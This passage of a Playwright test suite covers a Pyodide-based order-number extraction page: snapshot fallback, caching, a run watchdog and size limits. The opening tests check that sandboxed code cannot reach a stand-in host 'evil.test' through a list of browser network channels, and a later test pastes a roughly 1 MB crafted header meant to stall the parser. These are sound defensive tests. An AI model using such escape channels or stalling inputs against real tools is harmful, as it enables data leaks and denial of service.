    tried = json.loads(reports[0])
    assert "failed" not in tried, tried["failed"]
    assert [url for url in seen if "evil.test" in url] == []
    assert set(tried) == {"js.fetch", "prototype fetch", "pyfetch", "open_url", "XMLHttpRequest", "WebSocket",
                          "EventSource", "importScripts", "Worker", "eval import()", "run_js", "Function"}
    assert "no error" not in tried.values(), tried
    # The tool itself still works, without the network.
    assert paste(page, SWEDISH) == "done"
    assert shown(page, "order-number") == ["8174523690147852"]
    context.close()


# ------------------------------------------------------------------------------------------ the snapshot

SNAPSHOT_ROUTE = "**/order-tool/python-snapshot.bin*"


def with_config(page, changes: dict[str, object]) -> None:
    """Serve the tool page with some of its config changed (e.g. the snapshot policy)."""

    def rewrite(html: str) -> str:
        for key, value in changes.items():
            html, count = re.subn(rf'"{key}": ("[^"]*"|\d+)', f'"{key}": {json.dumps(value)}', html)
            assert count == 1, key
        return html

    page.route(re.compile(r".*/ordernummer-ur-mejl/$"), lambda route: fulfill_changed(route, rewrite))


@pytest.mark.parametrize("snapshot", ["real", "blocked", "not gzip", "garbage in gzip"])
def test_snapshot_or_fallback_reaches_a_result(open_page, snapshot: str) -> None:
    watched = open_page(None, permissions=["clipboard-read", "clipboard-write"])
    watched.context.add_init_script(STATE_RECORDER)
    page = watched.page
    with_config(page, {"snapshotPolicy": "always"})  # fetch it up front, as on a warm start
    if snapshot == "blocked":
        page.context.route(SNAPSHOT_ROUTE, lambda route: route.abort())
    elif snapshot == "not gzip":
        page.context.route(SNAPSHOT_ROUTE, lambda route: route.fulfill(body=b"\x1f\x8b not really gzip"))
    elif snapshot == "garbage in gzip":
        page.context.route(SNAPSHOT_ROUTE, lambda route: route.fulfill(body=gzip.compress(b"\0" * 100_000)))
    watched.goto(TOOL_PAGE["sv"])
    assert paste(page, TYPICAL) == "done"
    assert_results(page, *PASTED["typical"][1:])
    expected = "snapshot" if snapshot == "real" else "plain"
    assert page.get_attribute("[data-order-tool]", "data-python") == expected


class _RecordingHandler(SiteHandler):
    """Serves the site as a host following _headers would (assets cached), notes when each path was
    asked for, and answers the paths in `hold` that many seconds late."""

    cache_assets = True
    arrived: list[tuple[float, str]]
    hold: dict[str, float]

    def send_head(self):  # noqa: ANN201 - stdlib signature
        path = urlsplit(self.path).path
        self.arrived.append((time.monotonic(), path))
        time.sleep(next((seconds for end, seconds in self.hold.items() if path.endswith(end)), 0))
        return super().send_head()


@contextmanager
def recording_server(site_dir: Path, hold: dict[str, float] | None = None) -> Iterator[tuple[str, list]]:
    """The site on its own server (_RecordingHandler): its URL, and the (time, path) of each request."""
    arrived: list[tuple[float, str]] = []
    handler = type("Handler", (_RecordingHandler,), {"header_rules": read_headers_file(site_dir),
                                                     "arrived": arrived, "hold": hold or {}})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(handler, directory=str(site_dir)))
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", arrived
    finally:
        server.shutdown()


def test_the_next_visit_restores_the_snapshot_with_nothing_to_download(browser, site_dir: Path) -> None:
    # A first visit starts plain and then fetches what a restore needs; the next visit must find all
    # of it in the HTTP cache: the snapshot, the rest of the library, and snapshot-delta.mjs.
    with recording_server(site_dir) as (server_url, arrived):
        url = server_url + TOOL_PAGE["sv"]
        context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
        try:
            context.add_init_script(STATE_RECORDER)
            first = context.new_page()
            first.goto(url)
            assert paste(first, TYPICAL) == "done"
            assert first.get_attribute("[data-order-tool]", "data-python") == "plain"
            # tool.js says when its background fetch for the next start is all in.
            first.wait_for_function("() => document.querySelector('[data-order-tool]').dataset.nextStart === 'cached'",
                                    timeout=60_000)
            first.close()
            arrived.clear()
            second = context.new_page()
            second.goto(url)
            assert paste(second, TYPICAL) == "done"
            assert second.get_attribute("[data-order-tool]", "data-python") == "snapshot"
            assert_results(second, *PASTED["typical"][1:])
            # None of what the first visit fetched for it was asked for again. (The wasm may be: a
            # test context's in-memory cache keeps no 9.6 MB entry, where a reader's disk cache does,
            # as make bench shows with 0 MB on the wire.)
            restore = ("python-snapshot.bin", "python_stdlib_rest.zip", "snapshot-delta.mjs", "worker.js", "pyodide.mjs")
            served = [path for _, path in arrived]
            assert [path for path in served if path.endswith(restore)] == [], served
        finally:
            context.close()


# ------------------------------------------------------------------------------------------ issue 13: never stuck

# The review's worst case (H1): about 1 MB of RFC 2047 encoded words in the subject.
ENCODED_WORDS = ("From: AliExpress <transaction@notice.aliexpress.com>\nSubject: "
                 + "=?utf-8?b?T3JkZXIgSUQ6IDgxMjM0NTY3ODkwMTIzNDU=?= " * 21_000 + "\n\nHello\n")

# A paste that does not wait for its run (the next one cancels it).
PASTE_NOW = """(text) => {
  const input = document.querySelector('[data-testid="order-input"]');
  input.value = text;
  input.dispatchEvent(new ClipboardEvent("paste", {bubbles: true, cancelable: true}));
}"""


def test_worst_case_then_a_normal_mail_gets_its_answer(open_page) -> None:
    watched = open_tool(open_page, "en", permissions=["clipboard-read", "clipboard-write"])
    page = watched.page
    assert paste(page, SWEDISH) == "done"  # Python is ready
    assert len(ENCODED_WORDS) > 1_000_000
    before = finished_runs(page)
    page.evaluate(PASTE_NOW, ENCODED_WORDS)
    page.wait_for_timeout(600)  # the hostile run is under way
    page.evaluate(PASTE_NOW, TYPICAL)
    wait_for_run(page, before, timeout=60_000)
    page.wait_for_function("() => document.querySelector('[data-testid=\"order-status\"]').dataset.state === 'done'"
                           " && document.querySelector('[data-testid=\"order-number\"]')", timeout=60_000)
    assert_results(page, *PASTED["typical"][1:])
    assert_clean(watched)


@pytest.mark.parametrize("lang", ["sv", "en"])
def test_watchdog_ends_a_run_past_its_budget(open_page, lang: str) -> None:
    watched = open_page(None, permissions=["clipboard-read", "clipboard-write"])
    watched.context.add_init_script(STATE_RECORDER)
    page = watched.page
    # Between a short mail's first run (16-52 ms here, more on a busy machine; 150 ms was once too
    # little in a full run) and the 4.6 MB one below (600-750 ms), however fast the extractor gets.
    with_config(page, {"runBudgetMs": 300})
    watched.goto(TOOL_PAGE[lang])
    strings = json.loads(page.inner_text("#order-tool-strings"))
    page.focus(INPUT)  # intent: Python starts, and the first run below is timed from its own start
    page.wait_for_function(PYTHON_STARTED, timeout=60_000)
    assert paste(page, SWEDISH) == "done"
    workers_before = sum("order-tool/worker.js" in url for url in watched.requests)
    before = finished_runs(page)
    big = ENCODED_WORDS * 4  # about 4.6 MB, under the 5 MB limit
    page.evaluate(PASTE_NOW, big)
    assert wait_for_run(page, before, timeout=60_000) == "error"
    assert page.inner_text('[data-testid="order-status"]') == strings["error_too_hard"]
    assert page.input_value(INPUT) == big  # the reader's text stays
    # The stuck worker was ended and a new one started.
    page.wait_for_function(PYTHON_STARTED)
    assert sum("order-tool/worker.js" in url for url in watched.requests) == workers_before + 1
    assert_clean(watched)


def test_a_paste_over_the_limit_is_refused_at_once(open_page) -> None:
    watched = open_tool(open_page, "en")
    page = watched.page
    strings = json.loads(page.inner_text("#order-tool-strings"))
    before = finished_runs(page)
    page.evaluate(PASTE_NOW, "Order ID: 8123456789012345\n" + "x" * (5 * 1024 * 1024))
    assert wait_for_run(page, before, timeout=10_000) == "error"
    assert page.inner_text('[data-testid="order-status"]') == strings["error_too_large"].replace("{size}", "5 MB")


def test_without_javascript_only_the_way_by_hand_shows(open_page) -> None:
    watched = open_page(TOOL_PAGE["sv"], java_script_enabled=False)
    page = watched.page
    assert not page.locator("[data-order-form]").is_visible()
    assert not page.locator(STATUS).is_visible()
    assert page.locator(".order-tool__noscript a[href$='hitta-ordernumret/']").is_visible()


PYODIDE_MJS_DELAY_S = 0.8


def test_the_downloads_start_without_waiting_for_pyodide_mjs(browser, site_dir: Path) -> None:
    # Pyodide requests the wasm and the library only once pyodide.mjs has arrived and run; the
    # worker starts them itself at once (fetchEarly) and hands them over. With pyodide.mjs held
    # back by the host, they must still reach the host before it is sent, and each only once.
    requested: list[str] = []
    with recording_server(site_dir, hold={"/pyodide.mjs": PYODIDE_MJS_DELAY_S}) as (server_url, arrived):
        context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
        context.on("request", lambda request: requested.append(urlsplit(request.url).path))  # cache hits too
        try:
            context.add_init_script(STATE_RECORDER)
            page = context.new_page()
            page.goto(server_url + TOOL_PAGE["sv"])
            assert paste(page, TYPICAL) == "done"
            assert page.get_attribute("[data-order-tool]", "data-python") == "plain"
            assert_results(page, *PASTED["typical"][1:])
        finally:
            context.close()
    module_at = next(at for at, path in arrived if path.endswith("/pyodide.mjs"))
    for name in ("pyodide.asm.wasm", "python_stdlib.bin", "pyodide-lock.json", "order_number.zip"):
        times = [at for at, path in arrived if path.endswith("/" + name)]
        assert len(times) == 1, f"{name} reached the host {len(times)} times"
        assert times[0] - module_at < PYODIDE_MJS_DELAY_S, f"{name} waited for pyodide.mjs"
        assert sum(path.endswith("/" + name) for path in requested) == 1, f"{name} was asked for twice"


def test_a_worker_that_cannot_load_is_told_at_the_first_intent(open_page) -> None:
    # The worker is made as the page loads. If it cannot load, the page stays as it was until the
    # reader shows intent, and then says that Python could not start (never a silent "loading").
    watched = open_page(None)
    watched.context.route("**/order-tool/worker.js*", lambda route: route.abort())
    page = watched.page
    watched.goto(TOOL_PAGE["sv"])
    strings = json.loads(page.inner_text("#order-tool-strings"))
    for _ in range(100):  # the page asked for the worker, and was refused
        if any("order-tool/worker.js" in str(failed) for failed in watched.failed_requests):
            break
        page.wait_for_timeout(50)
    else:
        pytest.fail(f"worker.js was never asked for: {watched.failed_requests}")
    page.wait_for_timeout(300)  # the worker's error event has reached the page
    assert page.get_attribute(STATUS, "data-state") == "idle"
    page.fill(INPUT, TYPICAL)
    expect(page.locator(STATUS)).to_have_attribute("data-state", "error")
    assert page.inner_text(STATUS) == strings["error_start"]
